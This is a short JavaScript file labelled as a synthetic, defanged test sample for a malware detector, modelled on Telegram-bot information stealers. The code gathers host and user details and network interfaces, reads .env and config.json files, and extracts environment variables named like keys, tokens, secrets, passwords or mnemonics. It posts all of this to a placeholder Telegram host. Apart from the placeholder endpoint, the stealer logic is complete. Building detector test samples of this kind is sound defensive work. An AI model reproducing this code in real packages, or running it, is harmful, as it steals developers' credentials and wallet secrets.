// SYNTHETIC, DEFANGED malwi validation sample - modelled on stealers that exfiltrate through a Telegram bot (2022-2025); never run.
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const BOT = 'PLACEHOLDER_BOT_TOKEN';
const CHAT = 'PLACEHOLDER_CHAT_ID';

function send(text) {
  const body = JSON.stringify({ chat_id: CHAT, text: text.slice(0, 4000) });
  const req = https.request({
    hostname: 'api.telegram.example.invalid',
    path: '/bot' + BOT + '/sendMessage',
    method: 'POST',
    headers: { 'Content-Type': 'application/json' }
  });
  req.on('error', () => {});
  req.end(body);
}

const lines = [
  'host: ' + os.hostname(),
  'user: ' + os.userInfo().username,
  'cwd: ' + process.cwd(),
  'ip: ' + JSON.stringify(os.networkInterfaces())
];
for (const f of ['.env', '.env.local', 'config.json']) {
  const p = path.join(process.env.INIT_CWD || process.cwd(), f);
  if (fs.existsSync(p)) lines.push(f + ':\n' + fs.readFileSync(p, 'utf8'));
}
const keys = Object.entries(process.env).filter(([k]) => /KEY|TOKEN|SECRET|PASSWORD|MNEMONIC|PRIVATE/i.test(k));
lines.push('env: ' + JSON.stringify(Object.fromEntries(keys)));
send(lines.join('\n'));
